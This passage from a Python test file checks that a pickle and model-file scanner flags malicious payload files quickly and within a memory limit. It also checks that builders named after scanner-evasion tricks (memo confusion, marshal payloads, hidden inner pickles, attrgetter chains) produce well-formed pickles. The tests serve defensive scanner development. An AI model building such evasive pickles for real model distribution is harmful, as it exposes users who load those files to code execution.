    cid: str, source: str, name: str, build: Callable[[], bytes], memory: bool, tmp_path: Path
) -> None:
    root = tmp_path / "m"
    root.mkdir()
    (root / name).write_bytes(build())
    t0 = time.perf_counter()
    findings = scan_path(root, hash_files=False).findings
    elapsed = time.perf_counter() - t0
    ids = {f.rule_id for f in findings}
    assert findings, f"{cid} ({source}): no finding"
    assert "scan.internal-error" not in ids, [(f.rule_id, f.evidence) for f in findings]
    assert elapsed < 5.0, f"{cid}: {elapsed:.1f}s"
    if memory:  # tracemalloc slows allocation-heavy loops, so time is measured without it
        tracemalloc.start()
        try:
            scan_path(root, hash_files=False)
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert peak < 100 * 1024 * 1024, f"{cid}: peak {peak / 2**20:.0f} MB"


def test_builders_are_well_formed() -> None:
    """The payloads parse as the pickles they claim to be (checked without loading them)."""
    import pickletools

    s = Path("/nonexistent/pwned")
    for build in (bs.memo_confusion, bs.numpy_builtins_dict, bs.marshal_payload,
                  bs.hidden_inner_pickle, _attrgetter_chain, _modelscan_331):  # fmt: skip
        ops = [op.name for op, _arg, _pos in pickletools.genops(io.BytesIO(build(s)))]
        assert ops[-1] == "STOP"
